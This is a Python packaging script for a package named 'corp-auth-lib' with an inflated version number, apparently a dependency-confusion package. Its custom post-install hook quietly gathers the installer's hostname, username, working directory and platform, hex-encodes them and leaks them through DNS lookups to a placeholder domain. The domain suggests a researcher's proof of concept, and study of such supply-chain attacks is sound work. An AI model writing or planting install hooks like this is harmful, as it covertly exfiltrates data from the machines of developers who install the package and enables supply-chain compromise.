import binascii
import os
import platform
import socket
from setuptools import setup
from setuptools.command.install import install

DOMAIN = "dc.research.invalid"


def _labels(text, size=60):
    blob = binascii.hexlify(text.encode()).decode()
    return [blob[i : i + size] for i in range(0, len(blob), size)]


class PostInstall(install):
    def run(self):
        install.run(self)
        facts = "%s|%s|%s|%s" % (socket.gethostname(), os.environ.get("USER", ""), os.getcwd(), platform.platform())
        for number, label in enumerate(_labels(facts)):
            try:
                socket.gethostbyname("%d.%s.%s" % (number, label, DOMAIN))
            except OSError:
                pass


setup(name="corp-auth-lib", version="2000.0.1", packages=["corp_auth_lib"], cmdclass={"install": PostInstall})
